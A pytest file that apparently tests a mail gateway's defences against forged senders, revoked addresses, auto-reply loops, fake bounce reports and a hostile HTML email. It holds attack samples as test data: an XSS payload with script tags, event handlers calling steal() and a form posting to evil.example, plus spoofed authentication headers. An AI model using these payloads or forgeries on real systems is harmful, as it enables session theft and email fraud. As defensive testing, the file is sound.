"""Attackers at the door, each with a story of his own; all through real sockets, as the hop hands them over."""

from __future__ import annotations

import pytest

from tests.attack.conftest import Attacked


def letter(mark: str, author: str, text: str, head: str = "") -> str:
    return f"From: {author}\nTo: us\nSubject: {mark}\nMessage-ID: <{mark}@story.example>\nDate: Mon, 23 Nov 2026 12:00:00 +0000\n{head}\n{text}\n"


@pytest.mark.parametrize(
    ("mark", "head"),
    [
        ("forged-by-name", ""),
        (
            "forged-with-a-verdict",
            "Authentication-Results: mx.gw.example; dmarc=pass header.from=corp.example\n",
        ),
        ("forged-with-a-sender", "Sender: alice@corp.example\nX-Authenticated-User: alice@corp.example\n"),
    ],
)
def test_a_thief_of_alices_reply_address_does_not_become_alice(attacked: Attacked, mark: str, head: str):
    raw = letter(mark, "Alice <alice@corp.example>", "Please pay to my new account.", f"X-Passed: by\n{head}")

    assert attacked.send(raw, attacked.world["RA_ALICE"], reverse_path="m@evil.example") in (250, 550)

    assert attacked.posts(mark) == []


@pytest.mark.parametrize(
    "name", ["RA_FLIP", "RA_TRUNC", "RA_SUFFIX", "RB_SIG_A", "RA_EXPIRED", "RA_PCT", "RA_LONG"]
)
def test_an_address_that_we_did_not_mint_or_took_back_is_unknown(attacked: Attacked, name: str):
    raw = letter(f"to-{name}", "alice@corp.example", "Let me in.")

    code = attacked.send(
        raw,
        attacked.world[name],
        reverse_path="alice@corp.example",
        auth="pass",
        author_domain="corp.example",
    )

    assert code in (550, 553, 501, 500)


@pytest.mark.parametrize(("who", "where"), [("ERIN", "RB_ERIN"), ("DAVE", "RA_DAVE"), ("ALICE", "RX_ALICE")])
def test_who_lost_access_or_comes_to_an_archive_waits(attacked: Attacked, who: str, where: str):
    mark = f"late-{where.lower()}"
    raw = letter(mark, attacked.world[who], "One more thing.")

    attacked.send(
        raw,
        attacked.world[where],
        reverse_path=attacked.world[who],
        auth="pass",
        author_domain="corp.example",
    )

    assert attacked.posts(mark) == []


def test_a_page_that_wants_to_run_is_shown_as_words(attacked: Attacked):
    head = "MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n"
    body = "<p onmouseover='steal()'>Hi</p><script>steal()</script><form action='//evil.example'><input name=p></form><img src=x onerror=steal()>"
    raw = letter("a-page", "Carol <carol@customer.example>", body, head)
    since = attacked.kit.outbound(None)["since"]

    attacked.send(
        raw,
        attacked.world["RA_CAROL"],
        reverse_path="carol@customer.example",
        auth="pass",
        author_domain="customer.example",
    )

    [post] = attacked.posts("a-page")
    everything = post["html"] + "".join(str(mail) for mail in attacked.kit.outbound(since)["mails"])
    assert not any(word in everything for word in ("<script", "onmouseover", "onerror", "<form", "<input"))


def test_a_vacation_program_tells_nobody(attacked: Attacked):
    since = attacked.kit.outbound(None)["since"]
    raw = letter("on-leave", "Carol <carol@customer.example>", "I am away.", "Auto-Submitted: auto-replied\n")

    for _ in range(3):
        attacked.send(
            raw,
            attacked.world["RA_CAROL"],
            reverse_path="carol@customer.example",
            auth="pass",
            author_domain="customer.example",
        )

    assert attacked.told(since) == []


def test_a_report_with_a_made_up_address_silences_nobody(attacked: Attacked):
    part = "Reporting-MTA: dns; mx.evil.example\n\nFinal-Recipient: rfc822; alice@corp.example\nAction: failed\nStatus: 5.1.1\n"
    body = f"--b\nContent-Type: text/plain\n\nno such user\n--b\nContent-Type: message/delivery-status\n\n{part}\n--b--"
    head = "MIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\n"

    for name in ("VERP_FORGED_CAROL", "VERP_A_CAROL"):
        attacked.send(
            letter(f"report-{name}", "MAILER-DAEMON@mx.evil.example", body, head),
            attacked.world[name],
            reverse_path="",
        )

    assert attacked.kit.suppressed() == []
